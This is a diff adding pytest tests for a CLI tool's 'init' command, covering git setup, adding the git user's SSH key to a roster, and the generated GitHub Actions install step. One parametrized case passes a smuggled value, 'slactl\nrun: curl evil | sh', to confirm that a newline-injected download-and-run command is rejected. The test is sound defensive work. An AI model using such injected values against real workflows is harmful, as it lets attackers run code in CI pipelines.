@@ -3,9 +3,11 @@ next term after its fiscal year, so a renewal chain reads finance-desk-fy2027 ->
 
 from __future__ import annotations
 
+import subprocess
 from pathlib import Path
 
 import pytest
+import yaml
 
 from slactl.cli import main
 from slactl.documents import load_valid
@@ -56,3 +58,79 @@ def test_renew_moves_a_calendar_year_in_the_id(tmp_path: Path, capsys: pytest.Ca
     run(capsys, "new", str(desk), "--start", "2027-01-01", "--end", "2027-12-31", "--no-input")
     run(capsys, "renew", str(desk))
     assert ident(tmp_path / "desk-2028.yaml") == ("desk-2028", "desk-2027")
+
+
+def isolated_git(monkeypatch: pytest.MonkeyPatch, home: Path) -> None:
+    """No global or system git settings: the user of the test machine is nobody's roster entry."""
+    home.mkdir()
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(home / "gitconfig"))
+    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
+
+
+def test_init_makes_git_and_says_what_it_could_not_do(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    isolated_git(monkeypatch, tmp_path / "home")
+    repo = tmp_path / "r"
+    out = run(capsys, "init", str(repo))
+    assert (repo / ".git").is_dir()
+    assert f"git: initialized a repository in {repo} (`git init`)" in out
+    assert "people: git has no user.name/user.email here, so nobody was added" in out
+    assert (repo / ".gitignore").read_text().splitlines()[-1] == "/out/"
+    assert yaml.safe_load((repo / "slactl.yaml").read_text())["people"] == []
+
+
+def test_init_inside_a_repository_or_with_no_git_runs_no_git_init(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    isolated_git(monkeypatch, tmp_path / "home")
+    outer = tmp_path / "outer"
+    run(capsys, "init", str(outer))
+    out = run(capsys, "init", str(outer / "team-a"))
+    assert "git init" not in out and not (outer / "team-a" / ".git").exists()
+    out = run(capsys, "init", str(tmp_path / "plain"), "--no-git")
+    assert "initialized a repository" not in out and not (tmp_path / "plain" / ".git").exists()
+
+
+def test_init_adds_the_git_user_with_their_ssh_key(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    isolated_git(monkeypatch, tmp_path / "home")
+    key = tmp_path / "home" / "id_ed25519"
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "dana@laptop", "-f", str(key)], check=True)
+    for name, value in (("user.name", "Dana Whitfield"), ("user.email", "dana@example.org"), ("gpg.format", "ssh"),
+                        ("user.signingkey", f"{key}.pub")):  # fmt: skip
+        subprocess.run(["git", "config", "--global", name, value], check=True)
+    repo = tmp_path / "r"
+    run(capsys, "init", str(repo))
+    [person] = yaml.safe_load((repo / "slactl.yaml").read_text())["people"]
+    public = " ".join(Path(f"{key}.pub").read_text().split()[:2])  # the key without its comment
+    assert person == {
+        "name": "Dana Whitfield",
+        "email": "dana@example.org",
+        "roles": ["management", "legal", "internal-review", "signatory"],
+        "ssh_keys": [public],
+    }
+
+
+def test_the_workflow_installs_slactl_as_told(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    isolated_git(monkeypatch, tmp_path / "home")
+    spec = "slactl @ git+https://git.example.org/tools/slactl@v0.1.0"
+    out = run(capsys, "init", str(tmp_path / "r"), "--no-git", "--install", spec)
+    assert "SLACTL_INSTALL" not in out  # nothing left to set
+    workflow = yaml.safe_load((tmp_path / "r" / ".github" / "workflows" / "slactl.yml").read_text())
+    [step] = [s for s in workflow["jobs"]["validate"]["steps"] if s.get("name") == "Install slactl"]
+    assert step["env"]["SLACTL_DEFAULT"] == spec
+    assert step["env"]["SLACTL_INSTALL"] == "${{ vars.SLACTL_INSTALL }}"
+    assert 'pip install "$spec"' in step["run"]
+
+
+@pytest.mark.parametrize("spec", ["", "slactl\nrun: curl evil | sh", "x" * 600])
+def test_a_bad_install_requirement_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str], spec: str) -> None:
+    code = main(["init", str(tmp_path / "r"), "--no-git", "--install", spec])
+    err = capsys.readouterr().err
+    assert code == 2 and "--install is a pip requirement on one line" in err
+    assert not (tmp_path / "r" / ".github").exists()
